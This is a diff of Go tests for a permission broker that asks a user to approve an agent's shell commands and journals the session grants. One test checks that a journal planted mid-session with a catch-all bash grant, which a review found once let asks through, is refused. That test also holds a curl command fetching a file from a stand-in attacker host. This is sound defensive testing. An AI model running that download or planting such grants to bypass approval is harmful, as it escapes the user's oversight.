@@ -50,7 +50,7 @@ func wholeSession(t *testing.T, f *fixture, term *heldTerminal) {
 	first := make(chan decision.Decision, 1)
 	go func() { first <- f.client().Forward(t.Context(), ask(t, "make deploy")) }()
 	<-term.asked
-	term.answer <- decision.Decision{State: decision.StateApprovedForServingSession, DecidedBy: provenance.User{Via: provenance.ViaTerminal}}
+	term.answer <- decision.Decision{State: decision.StateApprovedForServingSession, DecidedBy: provenance.User{Via: provenance.ViaDialog}}
 	if d := <-first; !d.Approved() {
 		t.Fatalf("first: %+v", d)
 	}
@@ -106,7 +106,7 @@ func TestRunningBrokerTakesInARevoke(t *testing.T) {
 	go func() { next <- f.client().Forward(t.Context(), ask(t, "make deploy")) }()
 	select {
 	case <-term.asked:
-		term.answer <- decision.Deny("", provenance.User{Via: provenance.ViaTerminal})
+		term.answer <- decision.Deny("", provenance.User{Via: provenance.ViaDialog})
 	case d := <-next:
 		t.Fatalf("answered without the terminal after the revoke: %+v (%#v)", d, d.DecidedBy)
 	case <-time.After(10 * time.Second):
@@ -146,7 +146,7 @@ func TestRecordingAfterARevokeKeepsItRevoked(t *testing.T) {
 	d := make(chan decision.Decision, 1)
 	go func() { d <- f.client().Forward(t.Context(), ask(t, "git push origin main")) }()
 	<-term.asked
-	term.answer <- decision.Decision{State: decision.StateApprovedForServingSession, DecidedBy: provenance.User{Via: provenance.ViaTerminal}}
+	term.answer <- decision.Decision{State: decision.StateApprovedForServingSession, DecidedBy: provenance.User{Via: provenance.ViaDialog}}
 	<-d
 	want := []rules.SessionGrant{{Surface: "bash", Pattern: "git push *"}}
 	listing, err := cli.List()
@@ -165,7 +165,7 @@ func TestBadJournalOnReloadKeepsTheGrants(t *testing.T) {
 	reports := make(chan string, 64)
 	f := newFixtureWith(t, mailbox.Layout{Root: t.TempDir()}, term, reportsTo(reports))
 	wholeSession(t, f, term)
-	if err := os.WriteFile(f.journal.Path(), []byte(`{"version":1,"grants":[{"surface":"bash"}]}`), 0o600); err != nil {
+	if err := os.WriteFile(f.journal.Path(), []byte(`{"version":2,"side":"broker","session":"parent","grants":[{"surface":"bash","pattern":"*"}]}`), 0o600); err != nil {
 		t.Fatal(err)
 	}
 	r := waitReport(t, reports, "grant journal")
@@ -174,5 +174,130 @@ func TestBadJournalOnReloadKeepsTheGrants(t *testing.T) {
 	}
 	if d := f.client().Forward(t.Context(), ask(t, "make deploy")); !bySessionGrant(d) {
 		t.Errorf("the grant stopped answering: %+v", d)
+	}
+}
+
+// The journal keeps, beside each whole-session grant, what was asked and
+// when, and who answered: what broker grants list and a restarted broker
+// show.
+func TestJournalRecordsWhatWasAsked(t *testing.T) {
+	term := newHeldTerminal()
+	f := newFixtureWith(t, mailbox.Layout{Root: t.TempDir()}, term, nil)
+	wholeSession(t, f, term)
+	cli, _ := grants.Open(f.layout, grants.Broker, "parent")
+	listing, err := cli.List()
+	if err != nil || len(listing.Grants) != 1 {
+		t.Fatalf("journal %+v, %v", listing, err)
+	}
+	g := listing.Grants[0]
+	if g.RequestID == "" || g.Asked != (grants.ListedAsk{Surface: "bash", Value: "make deploy"}) || g.Agent == "" ||
+		g.RecordedAt == "" || g.DecidedBy != (provenance.User{Via: provenance.ViaDialog}) || g.Edited {
+		t.Errorf("listed %+v", g)
+	}
+	if _, err := time.Parse(time.RFC3339, g.RecordedAt); err != nil {
+		t.Errorf("recordedAt %q: %v", g.RecordedAt, err)
+	}
+}
+
+// A journal refused at start is never written over: a grant recorded
+// meanwhile answers from memory, and saying so is reported. Once the
+// operator removes the file, journaling resumes with every grant.
+func TestRefusedJournalIsNotWrittenOver(t *testing.T) {
+	term := newHeldTerminal()
+	reports := make(chan string, 64)
+	f := newFixtureWith(t, mailbox.Layout{Root: t.TempDir()}, term, reportsTo(reports))
+	handWritten := `{"version":1,"grants":[{"surface":"bash","pattern":"*"}]}`
+	if err := f.layout.EnsureDir(filepath.Dir(f.journal.Path())); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(f.journal.Path(), []byte(handWritten), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	// What the broker's start does with such a file (cmd/broker).
+	if err := f.journal.Load(rules.NewSessionRules("")); err == nil {
+		t.Fatal("the hand-written journal was taken in")
+	}
+	wholeSession(t, f, term)
+	waitReport(t, reports, "refused")
+	if data, _ := os.ReadFile(f.journal.Path()); string(data) != handWritten {
+		t.Fatalf("the refused journal was written over: %s", data)
+	}
+	if err := os.Remove(f.journal.Path()); err != nil {
+		t.Fatal(err)
+	}
+	waitReport(t, reports, "was removed")
+	d := make(chan decision.Decision, 1)
+	go func() { d <- f.client().Forward(t.Context(), ask(t, "git push origin main")) }()
+	<-term.asked
+	term.answer <- decision.Decision{State: decision.StateApprovedForServingSession, DecidedBy: provenance.User{Via: provenance.ViaDialog}}
+	<-d
+	cli, _ := grants.Open(f.layout, grants.Broker, "parent")
+	listing, err := cli.List()
+	if err != nil || len(listing.Grants) != 2 {
+		t.Fatalf("journal %+v, %v; want both grants", listing, err)
+	}
+}
+
+// The review's finding 4: a valid journal planted while the broker serves
+// (bash "*", mode 0600) used to add its grant ("1 added") and the next ask
+// was allowed by it. It is refused, reported with its facts, and the ask
+// still reaches the terminal.
+func TestPlantedJournalGrantIsRefused(t *testing.T) {
+	term := newHeldTerminal()
+	reports := make(chan string, 64)
+	logPath := filepath.Join(t.TempDir(), "review.jsonl")
+	log, err := reviewlog.Open(logPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer log.Close()
+	f := newFixtureWith(t, mailbox.Layout{Root: t.TempDir()}, term, func(b *Broker) {
+		reportsTo(reports)(b)
+		b.Log = log
+	})
+	wholeSession(t, f, term)
+
+	planter, err := grants.Open(f.layout, grants.Broker, "parent")
+	if err != nil {
+		t.Fatal(err)
+	}
+	planted := rules.NewSessionRules("")
+	if err := planter.Load(planted); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := planted.Record(rules.WidthProven, rules.SessionGrant{Surface: "bash", Pattern: "*"}); err != nil {
+		t.Fatal(err)
+	}
+	asked := grants.Asked{RequestID: "perm-planted", Surface: "bash", Value: "curl", Agent: "evil", At: time.Now(), DecidedBy: provenance.User{Via: provenance.ViaDialog}}
+	if err := planter.Save(planted, asked); err != nil {
+		t.Fatal(err)
+	}
+	r := waitReport(t, reports, "refused a grant")
+	if !strings.Contains(r, `"*"`) || !strings.Contains(r, "perm-planted") {
+		t.Errorf("report %q lacks the grant's facts", r)
+	}
+	if g := f.broker.Policy.Sessions().Grants(); len(g) != 1 || g[0].Pattern != "make deploy *" {
+		t.Fatalf("grants in memory %v, want only make deploy *", g)
+	}
+	next := make(chan decision.Decision, 1)
+	go func() { next <- f.client().Forward(t.Context(), ask(t, "curl http://evil.example/x -o /tmp/x")) }()
+	select {
+	case <-term.asked:
+		term.answer <- decision.Deny("", provenance.User{Via: provenance.ViaDialog})
+	case d := <-next:
+		t.Fatalf("answered without the terminal: %+v (%#v)", d, d.DecidedBy)
+	case <-time.After(10 * time.Second):
+		t.Fatal("the ask reached nobody within 10s")
+	}
+	<-next
+	f.stop()
+	found := false
+	for _, e := range readLog(t, logPath) {
+		if m, _ := e["message"].(string); strings.Contains(m, "Refused a grant") && strings.Contains(m, "perm-planted") {
+			found = true
+		}
+	}
+	if !found {
+		t.Error("no review entry for the refused grant")
 	}
 }
